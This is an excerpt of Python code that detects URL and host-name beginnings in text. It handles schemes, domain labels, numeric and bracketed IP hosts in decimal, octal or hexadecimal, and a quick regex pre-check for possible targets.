def _find_starts(text: str, low: int) -> Iterator[int]:
    """Yields offsets of addresses that are open at the text's end.

    They have a scheme, or a host and a path or port.
    """
    plain = text.translate(_WIDE)
    for required, form, find_start in _ADDRESS_STARTS:
        for match in form.finditer(plain, low) if required.search(plain) else ():
            if (start := find_start(match)) is not None:
                yield start


def _find_scheme_start(match: re.Match[str]) -> int | None:
    www = match[0][:3].lower() == "www"
    return None if www and _is_path(match.string, match.start()) else match.start()


def _find_host_start(match: re.Match[str]) -> int | None:
    if match["rest"] is None or _is_path(match.string, match.start()):
        return None
    last, labels = _find_last_label(match["host"])
    if not last or labels < 2 or (match["rest"] == ":" and last in _FILE_LABELS):
        return None
    return _move_before_slashes(match.string, match.start())


def _find_number_start(match: re.Match[str]) -> int | None:
    start = _move_before_slashes(match.string, match.start())
    if _is_path(match.string, match.start()):
        return None
    return start if _is_number(match["host"], slashes=start < match.start()) else None


_ADDRESS_STARTS = (
    (re.compile(r"(?i)[:\\]|//|www"), _ADDRESS_START, _find_scheme_start),
    (re.compile(r"[.%]"), _HOST, _find_host_start),
    (_PATH, _NUMBER, _find_number_start),
)
"""Address beginnings: required characters (quick), pattern, and start of a match."""


def _move_before_slashes(text: str, start: int) -> int:
    """Moves an offset before the slashes that precede it."""
    while start and text[start - 1] in "/\\":
        start -= 1
    return start


def _is_number(host: str, *, slashes: bool) -> bool:
    """Says whether readers of addresses take a number for a host."""
    if host.startswith("["):
        return host.count(":") > 1
    parts = host.split(".")
    values = [_parse_number(part) for part in parts]
    if len(parts) == 4:
        return all(value < 256 for value in values[:3])
    if any(part.lower().startswith("0x") for part in parts):
        return values[-1] > 255
    return values[-1] >= (1 << 24 if slashes else 10**8) if len(parts) == 1 else values[-1] > 255


def _parse_number(part: str) -> int:
    """Parses one part of a number: decimal, octal or hexadecimal."""
    part = part.lower()
    if part.startswith("0x"):
        return int(part, 16)
    return int(part, 8) if part[0] == "0" and part.strip("01234567") == "" else int(part)


def _find_names(text: str, low: int, *, is_called: bool) -> Iterator[tuple[int, int]]:
    """Yields spans of host names without path or port.

    Args:
        text: the text.
        low: offset to begin at.
        is_called: True if a bracket follows the text, so that `user.elena.save` is a function.
    """
    plain = text.translate(_WIDE)
    for match in _HOST.finditer(plain, low):
        last, labels = _find_last_label(match["host"])
        user = match.start() < match.start("host")
        is_call = is_called and match.end() == len(plain)
        is_host = user or last in _COMMON_LABELS or (labels > 2 and not is_call)
        if last and labels > 1 and is_host and not _is_path(plain, match.start()):
            yield match.start(), match.end("host")


def can_hold_target(text: str) -> bool:
    """Says whether a text may contain a target; quick, never wrongly False."""
    return _TARGET_SIGN.search(text) is not None


_TARGET_SIGN = re.compile(
    r"\]\(|\]:|<[A-Za-z]|//|[:@]\S|www|[^\s.]\.[^\s.]|[.。．｡．﹒․%&\\]\S|\d/", re.IGNORECASE
)
